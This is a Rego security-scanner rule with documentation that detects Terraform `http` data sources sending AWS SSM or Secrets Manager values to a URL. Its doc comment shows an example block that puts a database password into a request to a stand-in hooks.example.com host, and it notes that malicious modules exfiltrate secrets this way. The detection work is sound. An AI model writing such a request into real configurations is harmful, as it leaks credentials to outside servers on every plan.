# Terraform sends a secret to a URL
#
# ## What it does
# Flags Terraform `http` data sources (`data "http"`, the `hashicorp/http` provider) whose `url`,
# `request_headers` or `request_body` is built from a secret the configuration reads: the `value`
# of an `aws_ssm_parameter` (data source or resource) or the `secret_string` / `secret_binary` of
# an `aws_secretsmanager_secret_version`. The finding points at the argument that carries it.
#
# The secret is recognised by the reference the argument makes, through locals and variables
# included (in a plan, the reference the configuration records for the argument). A reference to a
# non-secret attribute (`name`, `arn`, `id`, ...) is not reported; an argument built from several
# resources at once may keep no single reference and is then not reported either. A parameter or
# secret version the configuration writes itself, from a variable or a `random_password`, counts
# as well: its value is named after it in the request.
#
# ## Why is this bad?
# Terraform reads data sources on every `plan` and `apply`, wherever it runs: on a laptop, in CI, in
# a pull request's speculative plan. A secret put into an `http` request leaves the account each
# time, to whoever serves (or intercepts, over plain `http://`) that URL, and lands in its access
# logs; a malicious module can use exactly this to exfiltrate secrets during a plan.
#
# ## Example
# ```hcl
# data "aws_ssm_parameter" "db_password" {
#   name = "/app/db/password"
# }
#
# data "http" "register" {
#   url = "https://hooks.example.com/register?token=${data.aws_ssm_parameter.db_password.value}"
# }
# ```
#
# ## Use instead
# Do not send secrets from Terraform: let the service that needs the secret read it from SSM
# Parameter Store or Secrets Manager at run time (with an IAM role allowed to read it), and pass it
# only its name or ARN.
#
# ## References
# - https://registry.terraform.io/providers/hashicorp/http/latest/docs/data-sources/http
# - https://developer.hashicorp.com/terraform/language/data-sources
# - https://docs.aws.amazon.com/systems-manager/latest/userguide/systems-manager-parameter-store.html
package faasguard.rules.sec.secret_sent_to_url

import rego.v1

metadata := {
	"id": "FG-SEC-005",
	"title": "Terraform sends a secret to a URL",
	"severity": "critical",
	"area": "SEC",
	"formats": ["terraform"],
	"remediation": "Do not send secrets from the deployment tool: let the service that needs one read it from SSM Parameter Store or Secrets Manager at run time, and hand it only the parameter's name or the secret's ARN.",
	"fixes": {"terraform": "Remove the secret from the `http` data source's `url`, `request_headers` and `request_body`; let the service that needs it read it from SSM Parameter Store or Secrets Manager at run time, and pass it only the parameter's name or the secret's ARN."},
}

# Resource types whose attributes hold a secret, and the attributes that are not secret.
secret_types := {"aws_ssm_parameter", "aws_secretsmanager_secret_version"}

plain_attrs := {"name", "arn", "id", "type", "version", "version_id", "secret_id", "key_id", "version_stages", "tier", "data_type", "description"}

request_args := {"url", "request_headers", "request_body"}

deny contains {
	"resource": r.id,
	"path": concat(".", ["properties", concat(".", [sprintf("%v", [p]) | some p in path])]),
	"message": sprintf("data \"http\" %s puts %s in its %s: Terraform sends this secret to the URL's server on every plan and apply", [r.id, what(v), path[0]]),
} if {
	some r in input.resources
	r.type == "http"
	r.mode == "data"
	some arg in request_args
	walk(r.properties[arg], [sub, v])
	path := array.concat([arg], sub)
	is_object(v)
	v.unknown == true
	is_string(v.ref)
	type_of(v.ref) in secret_types
	not v.attr in plain_attrs
}

# `data.aws_ssm_parameter.db`, `module.app.aws_ssm_parameter.db[0]` -> `aws_ssm_parameter`.
type_of(address) := t if {
	parts := [p | some p in split(address, "."); p != "data"]
	n := count(parts)
	n >= 2
	t := parts[n - 2]
}

what(v) := sprintf("%s.%s", [v.ref, v.attr]) if v.attr in {"value", "insecure_value", "secret_string", "secret_binary"}

else := sprintf("a value of %s", [v.ref])
